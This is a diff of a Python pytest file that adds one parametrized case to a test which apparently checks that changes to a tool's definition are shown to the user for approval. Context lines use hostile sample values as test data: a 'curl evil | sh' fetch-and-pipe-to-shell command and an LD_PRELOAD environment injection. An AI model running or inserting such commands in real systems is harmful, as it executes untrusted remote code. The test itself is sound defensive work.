@@ -78,6 +78,7 @@ def test_an_answer_counts_as_long_as_it_was_meant(tmp_path: Path) -> None:
         (replace(PUSH, parameters={"type": "object", "x": 1}), GIT, '+ "x": 1'),
         (PUSH, replace(GIT, origin="curl evil | sh"), "+runs: curl evil | sh"),
         (PUSH, replace(GIT, env={"LD_PRELOAD": "x"}), "+environment: LD_PRELOAD"),
+        (PUSH, replace(GIT, given="other"), "+their values, digested: other"),
     ],
 )
 @pytest.mark.parametrize("choice", ["session", "always"])
